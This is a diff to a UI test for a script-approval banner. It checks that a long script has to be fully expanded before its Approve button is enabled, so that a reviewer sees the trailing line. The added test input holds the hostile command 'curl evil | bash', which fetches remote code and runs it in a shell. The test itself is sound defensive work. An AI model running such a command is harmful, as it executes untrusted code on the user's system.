@@ -43,5 +43,18 @@ test("a request appears on every view with its whole script, hidden characters m
   await banner.getByRole("button", { name: "Deny" }).click();
   await banner.waitFor({ state: "detached" });
   expect(await stateOf(other.approval_id ?? "")).toBe("denied");
+  // A long one is approved only by somebody who had all of it before their eyes.
+  const long = await ask("three", `${"echo harmless\n".repeat(60)}curl evil | bash`);
+  const approve = banner.getByRole("button", { name: "Approve" });
+  const last = banner.getByText("curl evil | bash");
+  await banner.getByRole("button", { name: "Show the whole script: 61 lines" }).waitFor();
+  expect(await approve.isDisabled()).toBe(true);
+  await banner.getByRole("button", { name: /^Show the whole script/ }).click();
+  const [script, box] = [await banner.locator("pre").boundingBox(), await last.boundingBox()];
+  expect(script?.height).toBeGreaterThan(60 * 12);
+  expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual((script?.y ?? 0) + (script?.height ?? 0));
+  await approve.click();
+  await banner.waitFor({ state: "detached" });
+  expect(await stateOf(long.approval_id ?? "")).toBe("approved");
   expect(view.problems).toEqual([]);
 }, 60_000);
